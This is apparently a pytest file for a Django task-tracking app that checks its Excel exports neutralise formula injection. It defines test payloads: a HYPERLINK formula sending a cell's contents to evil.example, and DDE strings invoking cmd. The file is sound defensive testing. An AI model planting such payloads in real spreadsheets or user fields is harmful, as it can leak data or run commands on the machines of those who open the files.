"""Formula injection: user text never becomes a live formula in any workbook the app writes."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from reformtracker.xlsx import safe_value, unquote
from tasks.excel.breakdown import parse_breakdown, write_breakdown
from tasks.figures import Scope
from tasks.models import AssignmentRole, ProgressReport, Task
from tasks.supervision.report import write_supervision_report
from tests.factories import AssignmentFactory, MilestoneFactory, PlanFactory, TaskFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&D5,"查看附件")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _cells(data: bytes):
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_neutralised(data: bytes, *payloads: str) -> None:
    seen = set()
    for cell in _cells(data):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            for p in payloads:
                if p in cell.value:
                    assert cell.data_type == "s"
                    if cell.value.lstrip("'") == p:
                        assert cell.value == "'" + p
                    seen.add(p)
    assert seen == set(payloads), f"payloads missing from the workbook: {set(payloads) - seen}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_value_quotes_dangerous_text_only(payload):
    assert safe_value(payload) == "'" + payload
    assert unquote(safe_value(payload)) == payload


def test_safe_value_keeps_typed_values_and_harmless_text():
    day = dt.date(2020, 9, 30)
    assert safe_value(3) == 3 and safe_value(-3) == -3 and safe_value(0.5) == 0.5 and safe_value(day) is day
    assert safe_value(None) is None and safe_value("已完成 = 100%") == "已完成 = 100%"
    assert safe_value("'plain") == "'plain"


@pytest.fixture
def poisoned(unit_a, liaison_a, office, client):
    """A plan imported with a formula as title text, an office-edited title, and a liaison's report."""
    plan = PlanFactory(title="=1+1 导入的计划", doc_number="@SUM(1)")
    task = TaskFactory(plan=plan, number="1", order=1, title=DDE, text=DDE, category="+分类", indicator=DDE,
                       target="-目标")
    AssignmentFactory(task=task, unit=unit_a, role=AssignmentRole.LEAD)
    MilestoneFactory(task=task, due_on=dt.date(2020, 9, 15), phrase="=9月中旬前")
    client.force_login(liaison_a)
    response = client.post(reverse("tasks:progress", args=[task.pk]),
                           {"unit": unit_a.pk, "period": "2020-09", "percent": 40, "text": HYPERLINK})
    assert response.status_code == 302, response.content.decode()[:2000]
    report = ProgressReport.objects.get(task=task)
    assert report.text == HYPERLINK
    ProgressReport.objects.filter(pk=report.pk).update(
        created_at=timezone.make_aware(dt.datetime(2020, 9, 20, 10, 0)))
    client.logout()
    return task


def test_office_task_list_export_has_no_formula(client, office, poisoned):
    client.force_login(office)
    response = client.get(reverse("excel:task_list"))
    assert response.status_code == 200
    _assert_neutralised(_content(response), HYPERLINK, DDE, "+分类", "-目标", "=9月中旬前")


def test_breakdown_export_round_trips_the_quoted_text(poisoned):
    buf = io.BytesIO()
    write_breakdown(buf, Task.objects.all(), note="筛选条件：=1+1")
    _assert_neutralised(buf.getvalue(), HYPERLINK, DDE, "+分类", "-目标")
    buf.seek(0)
    row = parse_breakdown(buf, year=2020).rows[0]
    assert row.indicator == DDE and row.target == "-目标" and row.category == "+分类"
    assert row.progress == HYPERLINK


def test_supervision_report_and_its_sheets_have_no_formula(client, supervisor, poisoned):
    client.force_login(supervisor)
    response = client.get(reverse("supervision:report_instant"), {"month": "2020-09"})
    assert response.status_code == 200
    _assert_neutralised(response.content, HYPERLINK, DDE)


def test_supervision_report_written_by_the_worker_has_no_formula(poisoned):
    buf = io.BytesIO()
    write_supervision_report(buf, year=2020, month=9, scope=Scope("all"))
    _assert_neutralised(buf.getvalue(), HYPERLINK, DDE)
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    ws = wb["逾期事项"]
    row = next(r for r in ws.iter_rows(min_row=4) if isinstance(r[0].value, int))
    assert row[4].is_date and row[7].data_type == "n"  # the code's own dates and numbers stay typed
